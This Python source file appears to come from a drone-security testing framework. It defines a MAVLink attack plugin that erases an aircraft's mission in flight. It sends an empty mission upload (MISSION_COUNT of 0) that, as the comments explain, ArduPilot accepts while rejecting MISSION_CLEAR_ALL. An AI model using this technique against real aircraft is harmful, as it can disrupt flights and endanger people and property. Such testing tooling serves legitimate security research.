"""Mission erasure: the mission of an aircraft is removed in flight."""

from __future__ import annotations

from typing import Literal

from skyrange.attack.bases.mavlink.script import Clear, Script, Step, Upload
from skyrange.attack.declaration import attack
from skyrange.attack.presets import CONTROL_LINKS, on_control_link, sham_to_nobody
from skyrange.contracts.plugins.fields import param


@attack(
    "mavlink.mission_clear",
    technique="T0809",
    surface=CONTROL_LINKS,
    persists="upload",
    effect="the mission ends in the air, and the aircraft holds where it is",
    threat=on_control_link("system ids, from any frame", budget="one frame"),
    controls=sham_to_nobody(
        acts="frame",
        content="MISSION_CLEAR_ALL, which an aircraft in AUTO rejects",
        placement="the same frame to another aircraft",
    ),
)
class MissionErasure(Script):
    """Removes the mission of the aircraft in flight."""

    by: Literal["MISSION_COUNT", "MISSION_CLEAR_ALL"] = param(
        "MISSION_COUNT of 0, an upload of nothing, removes a mission that is being flown; MISSION_CLEAR_ALL is "
        "rejected by ArduPilot in that state.",
        default="MISSION_COUNT",
    )

    def steps(self) -> list[Step]:
        """The message."""
        # AP_Mission::clear keeps a mission that runs; AP_Mission::truncate, which a MISSION_COUNT calls
        # (MissionItemProtocol_Waypoints::truncate), does not ask
        return [Upload(()) if self.by == "MISSION_COUNT" else Clear()]
